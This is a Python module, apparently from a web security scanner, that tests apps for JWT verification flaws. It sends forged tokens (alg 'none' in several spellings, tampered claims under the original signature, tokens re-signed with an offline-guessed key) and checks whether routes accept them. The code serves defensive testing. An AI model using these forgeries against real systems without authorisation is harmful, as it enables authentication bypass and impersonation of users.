"""JWT: a token the app issued (seen in a response, given with --as, or from a --login) is
re-sent forged: `alg: none` with no signature, and claims changed under the old signature.
Either being accepted where a junk token is refused confirms it; the forged claims carry a
unique canary.

`none` is also spelled `None` and `NONE`: code that compares the algorithm case-sensitively
(a blacklist of "none", or its own branch for "NONE") skips verification for one spelling and
not the others. The forged parts are base64url whose JSON is padded with spaces to a multiple of
3 bytes, so they need no `=` and a decoder that insists on padding (Python's b64decode) reads
them too. The token goes back with the scheme it came with (`JWT eyJ...`, Flask-JWT's)."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from dataclasses import dataclass, replace
from urllib.parse import urlsplit

from auditor.probe.checks.canary import same, token
from auditor.probe.checks.jwt_keys import b64url, candidates, keys_in_code, resigned, signing_key, unb64url
from auditor.probe.cookies import cookie_pairs
from auditor.probe.interface import (
    Confirmation,
    Exchange,
    InjectionPoint,
    Param,
    ProbeContext,
    Route,
    Sender,
    SiteCheck,
)

JWT = re.compile(r"\beyJ[\w-]+\.eyJ[\w-]+\.[\w-]*")
MAX_ROUTES = 10


def claims_of(tok: str) -> dict[str, object] | None:
    """A JWT's claims, read without checking its signature (None if it is no JWT)."""
    try:
        part = tok.split(".")[1]
        data = json.loads(unb64url(part))
    except (ValueError, IndexError):
        return None
    return data if isinstance(data, dict) else None


def _b64_json(data: dict[str, object]) -> str:
    """base64url of the JSON, spaces added so that it needs no padding."""
    raw = json.dumps(data, separators=(",", ":")).encode()
    return b64url(raw + b" " * (-len(raw) % 3))


NONE_SPELLINGS = ("none", "None", "NONE")


def forged(tok: str, canary: str) -> list[tuple[str, str]]:
    """(how, token) pairs: alg none (each spelling), and claims changed under the original signature."""
    claims = claims_of(tok)
    if claims is None:
        return []
    changed = _b64_json({**claims, "auditor": canary})
    header, _, sig = tok.split(".")
    nones = [(f"alg {alg}", f"{_b64_json({'alg': alg, 'typ': 'JWT'})}.{changed}.") for alg in NONE_SPELLINGS]
    return [*nones, ("tampered claims, old signature", f"{header}.{changed}.{sig}")]


def _found_tokens(history: list[Exchange], identities: list[dict[str, str]]) -> list[tuple[str, str, str]]:
    """(where, token, prefix) of each place a token travels, the identities' first, at most
    MAX_TOKENS: where is a header name or 'cookie:NAME'; prefix is what came before the token in
    that header (its scheme). An app may hand out several (a score token signed with a random
    key beside the session's, signed with a weak one)."""
    out: dict[str, tuple[str, str, str]] = {}
    for identity in identities:
        for name, value in identity.items():
            if name.lower() == "cookie":
                for key, val in cookie_pairs(value).items():
                    if m := JWT.fullmatch(val):
                        out.setdefault("cookie:" + key, ("cookie:" + key, m.group(0), ""))
            elif m := JWT.search(value):
                out.setdefault(name, (name, m.group(0), value[:m.start()]))
    for ex in history:
        for v in ex.header_values("set-cookie"):
            if m := JWT.search(v):
                where = "cookie:" + v.split("=", 1)[0].strip()
                out.setdefault(where, (where, m.group(0), ""))
        if m := JWT.search(ex.text):
            out.setdefault("Authorization", ("Authorization", m.group(0), "Bearer "))
    return list(out.values())[:MAX_TOKENS]


def token_routes(routes: list[Route], where: str, answered: frozenset[tuple[str, str]] = frozenset()) -> list[Route]:
    """The routes the forged tokens go to (at most MAX_ROUTES): those whose code reads the
    token's header or cookie first, then those the run's identity was already answered 2xx
    (`answered`: (method, path); an admin's routes refuse a user's own token, and a forgery
    proves nothing there), then GETs before POSTs (which go with their usual body); a path's
    placeholders take their usual values. No PUT, PATCH or DELETE."""
    name = where[7:] if where.startswith("cookie:") else where
    usable = [r for r in routes if r.method in ("GET", "POST")]

    def reads(r: Route) -> bool:
        return any(p.name.lower() == name.lower() and p.location in ("header", "cookie") for p in r.params)

    usable.sort(key=lambda r: (not reads(r), (r.method, r.path) not in answered, r.method != "GET", "{" in r.path))
    return usable[:MAX_ROUTES]


def carrying(route: Route, where: str) -> InjectionPoint:
    """An injection point of `route` for the token: its own header or cookie input where the code
    reads it, else one added beside its other inputs (in the group its body inputs travel in)."""
    location, name = ("cookie", where[7:]) if where.startswith("cookie:") else ("header", where)
    own = next((p for p in route.params if p.location == location and p.name.lower() == name.lower()), None)
    if own is not None:
        return InjectionPoint(route, own)
    group = next((p.group for p in route.params if p.location not in ("path", "header", "cookie")), "")
    param = Param(name, location, group=group)
    return InjectionPoint(replace(route, params=[*route.params, param]), param)


MAX_TOKENS = 3  # distinct tokens (by where they travel) whose forgeries are tried


@dataclass
class _Taken:
    """Whether a token sent to one route was taken as the real one (`good` is the real token's
    answer): an equal answer; or, for a POST, which may answer each request anew (a new id, a new
    time), the real token's status where a request with no token is refused (401/403)."""

    send: Callable[[InjectionPoint, str], Exchange]
    point: InjectionPoint
    good: Exchange
    creates: bool
    _bare_refused: bool | None = None

    def taken(self, ex: Exchange) -> bool:
        if ex.status != self.good.status:
            return False
        if same(ex, self.good, []) or not self.creates:
            return same(ex, self.good, [])
        if self._bare_refused is None:
            self._bare_refused = self.send(self.point, "").status in (401, 403)
        return self._bare_refused


class JwtForgery(SiteCheck):
    name = "jwt"

    def __init__(self) -> None:
        # each token's signing key guessed offline, once per run (None: not guessed)
        self._guessed: dict[str, tuple[str, str] | None] = {}
        self._code: list[str] | None = None  # the key-like strings of the project's code

    def run(self, sender: Sender, ctx: ProbeContext, routes: list[Route]) -> list[Confirmation]:
        identities = [getattr(sender, "identity", {}), *(headers for _, headers in ctx.identities)]
        out: list[Confirmation] = []
        for where, tok, prefix in _found_tokens(getattr(sender, "token_responses", []), identities):
            out += self._forged(sender, ctx, routes, where, tok, prefix)
            if out:
                break  # the routes behind one verifier: the next token's forgeries show nothing more
        return out + self._key_answered(sender)

    def _forged(self, sender: Sender, ctx: ProbeContext, routes: list[Route], where: str, tok: str,
                prefix: str) -> list[Confirmation]:
        """The forgeries of one token that the routes reading it take."""

        def send(point: InjectionPoint, value: str) -> Exchange:
            """`value` where the token travels, with its scheme (none for the empty value: no token)."""
            return sender.send(point, prefix + value if value and not where.startswith("cookie:") else value)

        out: list[Confirmation] = []
        kinds: set[str] = set()
        answered = frozenset(key for key, ex in getattr(sender, "first_answers", {}).items() if 200 <= ex.status < 300)
        for route in token_routes(routes, where, answered):
            point = carrying(route, where)
            good = send(point, tok)
            if not 200 <= good.status < 300:
                continue
            judge = _Taken(send, point, good, creates=route.method != "GET")
            creates, taken = judge.creates, judge.taken
            # A junk token in the same place, not a bare request: with a login, a bare request
            # would still carry the session.
            junk_token = f"{_b64_json({'alg': 'HS256', 'typ': 'JWT'})}.{_b64_json({'sub': token()})}.x"
            junk = send(point, junk_token)
            if same(good, junk, []) or (creates and taken(junk)):
                # The junk token is taken as the real one: the route ignores the token, or takes
                # any token unverified. Only the second refuses a request with no token at all.
                bare = send(point, "") if "unverified" not in kinds else None
                if bare is not None and bare.status > 0 and not same(good, bare, []) and \
                        (not creates or bare.status in (401, 403)):
                    out.append(Confirmation("weak-authentication", self.name,
                                            "JWT accepted with a forged token (a junk signature: the route refuses "
                                            "a request without a token, and takes any token unverified)",
                                            junk, junk_token.split(".")[1], endpoint=route.path, method=route.method,
                                            severity="critical"))
                    kinds.update(("unverified", "alg none", "tampered claims, old signature"))
                continue
            for how, forgery in [*forged(tok, token()), *self._with_guessed_key(ctx, tok)]:
                kind = "alg none" if how.startswith("alg ") else how.split(":")[0]
                if kind in kinds:
                    continue
                canary = forgery.split(".")[1]
                ex = send(point, forgery)
                if taken(ex):
                    # One finding per kind of forgery: routes behind one verifier accept the same
                    # ones, and a route that verifies on its own (or not at all) shows another.
                    out.append(Confirmation("weak-authentication", self.name,
                                            f"JWT accepted with a forged token ({how})", ex, canary,
                                            endpoint=route.path, method=route.method, severity="critical"))
                    kinds.add(kind)
                    break
        self._guess(ctx, tok)
        return out

    def _guess(self, ctx: ProbeContext, tok: str) -> None:
        """The token's signing key, guessed offline (checks/jwt_keys) once per run: the code's
        strings and the common weak keys."""
        if tok not in self._guessed:
            if self._code is None:
                self._code = keys_in_code(ctx.project) if ctx.project is not None else []
            self._guessed[tok] = signing_key(tok, candidates(self._code))

    def _key_answered(self, sender: Sender) -> list[Confirmation]:
        """The signing key found offline, answered by the app itself (a session-info or debug
        route that returns it): anyone who reads it there signs any user's token. A key under ten
        characters may be a word any page holds, and is not looked for."""
        key = next((g[0] for g in self._guessed.values() if g is not None and len(g[0]) >= 10), None)
        if key is None:
            return []
        shown = re.compile(r"(?<![\w-])" + re.escape(key) + r"(?![\w-])")
        seen = [*getattr(sender, "first_answers", {}).values(), *getattr(sender, "history", [])]
        ex = next((ex for ex in seen if ex.status < 400 and shown.search(ex.text)), None)
        if ex is None:
            return []
        path = urlsplit(ex.url).path or "/"
        return [Confirmation("security-misconfiguration", self.name,
                             f"the key that signs the app's tokens is answered at {path}: anyone who reads it "
                             "signs a token for any user", ex, key, endpoint=path, method=ex.method,
                             severity="critical")]

    def _with_guessed_key(self, ctx: ProbeContext, tok: str) -> list[tuple[str, str]]:
        """The token with changed claims, signed with its own key where that key is guessable
        (found offline: checks/jwt_keys). Computed once per run."""
        self._guess(ctx, tok)
        claims, guessed = claims_of(tok), self._guessed[tok]
        if guessed is None or claims is None:
            return []
        key, origin = guessed
        where = origin if origin == "a common weak key" else f"a string in {origin}"
        return [(f"claims changed and signed with the app's own key, guessed offline: {where}",
                 resigned(tok, _b64_json({**claims, "auditor": token()}), key))]
